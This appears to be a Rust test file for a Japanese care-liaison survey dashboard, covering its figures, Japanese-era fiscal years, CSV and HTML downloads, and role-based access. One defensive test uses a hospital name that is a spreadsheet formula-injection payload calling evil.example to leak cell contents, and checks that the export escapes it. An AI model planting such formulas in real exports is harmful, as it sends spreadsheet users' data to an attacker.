//! The coordinator's dashboard: the survey's figures for a chosen period and grouping, its
//! charts, and the CSV and HTML downloads, as a coordinator sees them through the pages.

use serde_json::{Value, json};

use crate::support::pages::{sign_in_page, text_of};
use crate::support::{TestApp, day, spawn_app};

/// A stay at H1 of C1's client: admission sheet by phone the day after admission, discharge
/// notice by FAX six days before the discharge.
async fn one_stay(app: &TestApp) {
    app.client_of_care_office("0100000001").await;
    let stay = app.admission("0100000001", &day(-10)).await;
    let episode = stay["id"].as_str().unwrap();
    let contacts = [
        (
            &app.city().care_manager,
            json!({"direction": "cm_to_hospital", "kind": "admission_info", "method": "phone", "contacted_on": day(-9)}),
        ),
        (
            &app.city().nurse,
            json!({"direction": "hospital_to_cm", "kind": "discharge_notice", "method": "fax", "contacted_on": day(-7)}),
        ),
    ];
    for (token, contact) in contacts {
        assert_eq!(app.record_contact(token, episode, &contact).await.status, 201);
    }
    let discharge = json!({"discharged_on": day(-1), "destination": "home"});
    assert_eq!(app.discharge(&app.city().nurse, episode, &discharge).await.status, 200);
}

fn percent(rate: &Value) -> String {
    rate.as_f64().map_or_else(|| "—".to_owned(), |r| format!("{:.1}%", r * 100.0))
}

#[tokio::test]
async fn the_dashboard_shows_the_same_figures_as_the_api_for_the_same_period() {
    let app = spawn_app().await;
    one_stay(&app).await;
    let period = format!("from={}&to={}&group_by=hospital", day(-30), day(0));
    let api = app.survey(&app.city().coordinator, &period).await.body;
    let coordinator = sign_in_page(&app, "coordinator@city.example.jp").await;
    let page = coordinator.get(&format!("/dashboard?{period}")).await;
    assert_eq!(page.status, 200, "{}", page.text());
    let html = page.text();
    for (id, side, field) in [
        ("admission-cohort", "admission", "cohort"),
        ("admission-contacted", "admission", "contacted"),
        ("admission-excluded", "admission", "excluded"),
        ("discharge-cohort", "discharge", "cohort"),
        ("discharge-contacted", "discharge", "contacted"),
        ("discharge-on-time", "discharge", "on_time"),
        ("discharge-died", "discharge", "died"),
        ("discharge-excluded", "discharge", "excluded"),
        ("discharge-in-hospital", "discharge", "in_hospital"),
    ] {
        assert_eq!(text_of(&html, id), api[side][field].to_string(), "{id}");
    }
    assert_eq!(text_of(&html, "admission-rate"), percent(&api["admission"]["rate"]));
    assert_eq!(text_of(&html, "discharge-rate"), percent(&api["discharge"]["rate"]));
    assert_eq!(text_of(&html, "discharge-on-time-rate"), percent(&api["discharge"]["on_time_rate"]));
    assert_eq!(api["discharge"]["on_time"], 1, "the stay itself: notified six days before");
    assert!(text_of(&html, "rules").contains("default 第1版"), "the rules in force are named");
    assert!(html.contains("退院の<strong>5日前</strong>まで"));
    assert!(html.contains("<th scope=\"row\">連携病院"), "the per-hospital table");
    let by_place =
        coordinator.get(&format!("/dashboard?from={}&to={}&group_by=hospital_in_city", day(-30), day(0))).await;
    assert!(by_place.text().contains("<th scope=\"row\">市内の医療機関"), "{}", by_place.text());
    assert!(html.contains("医療機関の所在（市内・市外）"), "the breakdown by the hospital's place is offered");
    assert!(html.contains("<svg") && html.contains("医療機関別の退院連絡の時期"), "the report's charts");
    assert!(!html.contains("style="), "the page's CSP forbids inline styles");
    assert!(page.header("content-security-policy").contains("style-src 'self'"));
}

#[tokio::test]
async fn an_empty_period_shows_dashes_and_fiscal_years_are_named_in_the_japanese_era() {
    let app = spawn_app().await;
    let coordinator = sign_in_page(&app, "coordinator@city.example.jp").await;
    let page = coordinator.get("/dashboard?fiscal_year=2025").await;
    assert_eq!(page.status, 200);
    let html = page.text();
    assert_eq!(text_of(&html, "admission-cohort"), "0");
    assert_eq!(text_of(&html, "admission-rate"), "—");
    assert_eq!(text_of(&html, "discharge-on-time-rate"), "—");
    assert!(text_of(&html, "period").starts_with("令和7年度（2025年度）：令和7年4月1日〜令和8年3月31日"));
    assert!(html.contains("<option value=\"2025\" selected>令和7年度（2025年度）</option>"));

    let wrong = coordinator.get("/dashboard?from=2025-04-30&to=2025-04-01").await;
    assert_eq!(wrong.status, 422);
    assert!(wrong.text().contains("id=\"to-error\">期間の終わり"), "{}", wrong.text());
}

#[tokio::test]
async fn the_downloads_are_csv_for_excel_in_utf8_or_shift_jis_and_the_html_report() {
    let app = spawn_app().await;
    one_stay(&app).await;
    let coordinator = sign_in_page(&app, "coordinator@city.example.jp").await;
    let period = format!("from={}&to={}&group_by=hospital", day(-30), day(0));
    let csv = coordinator.get(&format!("/dashboard/survey.csv?{period}")).await;
    assert_eq!(csv.status, 200);
    assert_eq!(csv.header("content-type"), "text/csv; charset=utf-8");
    assert!(csv.header("content-disposition").starts_with("attachment; filename=\"renkei-survey-"));
    assert!(csv.bytes.starts_with(b"\xEF\xBB\xBF"), "a BOM for Excel");
    let text = String::from_utf8(csv.bytes[3..].to_vec()).unwrap();
    assert!(text.starts_with("区分コード,区分,入院_対象件数"), "{text}");
    assert!(text.contains("H1,連携病院"));

    let sjis = coordinator.get(&format!("/dashboard/survey.csv?{period}&encoding=shift_jis")).await;
    assert_eq!(sjis.header("content-type"), "text/csv; charset=Shift_JIS");
    assert!(sjis.header("content-disposition").contains("-sjis.csv"));
    let (decoded, _, errors) = encoding_rs::SHIFT_JIS.decode(&sjis.bytes);
    assert!(!errors && decoded.starts_with("区分コード,区分,入院_対象件数"));

    let report = coordinator.get(&format!("/dashboard/report.html?{period}")).await;
    assert_eq!(report.status, 200);
    assert!(
        report.header("content-disposition").starts_with("inline; filename=\"renkei-survey-"),
        "the report opens in the browser, to read and print"
    );
    assert!(report.text().contains("<svg") && report.text().contains("入退院連絡状況調査"));
    assert!(report.text().contains("@page{size:A4"), "printed on A4");
    assert!(report.text().contains("連絡の方法（最初に数えた連絡）") && report.text().contains("伝達スピード"));
}

#[tokio::test]
async fn only_coordinators_and_administrators_see_the_dashboard_and_only_administrators_the_admin_pages() {
    let app = spawn_app().await;
    let care_manager = sign_in_page(&app, "cm@c1.example.jp").await;
    for path in
        ["/dashboard", "/dashboard/survey.csv?fiscal_year=2025", "/dashboard/report.html", "/admin", "/admin/rules"]
    {
        let page = care_manager.get(path).await;
        assert_eq!(page.status, 403, "{path}");
        assert!(page.text().contains("この操作はできません"), "{path}: a Japanese error page");
    }
    let nurse = sign_in_page(&app, "nurse@h1.example.jp").await;
    assert_eq!(nurse.get("/dashboard").await.status, 403);
    let coordinator = sign_in_page(&app, "coordinator@city.example.jp").await;
    assert_eq!(coordinator.get("/dashboard").await.status, 200);
    assert_eq!(coordinator.get("/admin").await.status, 403);
    let admin = sign_in_page(&app, "admin@city.example.jp").await;
    assert_eq!(admin.get("/dashboard").await.status, 200);
    assert_eq!(admin.get("/admin").await.status, 200);
    let anonymous = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let answer = anonymous.get(format!("{}/dashboard", app.address)).send().await.unwrap();
    assert_eq!(answer.status().as_u16(), 303, "to the sign-in page");
}

#[tokio::test]
async fn the_dashboards_csv_keeps_a_hospital_named_like_a_formula_as_text() {
    use renkei::directory::{FacilityKind, Role};
    let app = spawn_app().await;
    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"クリック\")";
    let nurse = app.facility_with_user(
        "H9",
        formula,
        FacilityKind::Hospital,
        "+AREA",
        "nurse@h9.example.jp",
        Role::DischargeNurse,
    );
    app.client_of_care_office("0100000001").await;
    let patient = json!({"name": "連携 花子", "name_kana": "レンケイ ハナコ", "birth_date": "1940-02-11", "sex": "female",
                         "insurance_number": "0100000001"});
    assert_eq!(app.register_admission(&nurse, &json!({"client": patient, "admitted_on": day(-2)})).await.status, 201);
    let coordinator = sign_in_page(&app, "coordinator@city.example.jp").await;
    let period = format!("from={}&to={}&group_by=hospital", day(-30), day(0));
    for encoding in ["utf-8", "shift_jis"] {
        let csv = coordinator.get(&format!("/dashboard/survey.csv?{period}&encoding={encoding}")).await;
        assert_eq!(csv.status, 200);
        let text = match encoding {
            "shift_jis" => encoding_rs::SHIFT_JIS.decode(&csv.bytes).0.into_owned(),
            _ => csv.text(),
        };
        let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
        let cells: Vec<String> =
            reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
        assert!(cells.contains(&format!("'{formula}")), "{encoding}: {cells:?}");
        assert!(!cells.iter().any(|c| c.starts_with('=')), "{encoding}: {cells:?}");
    }
}
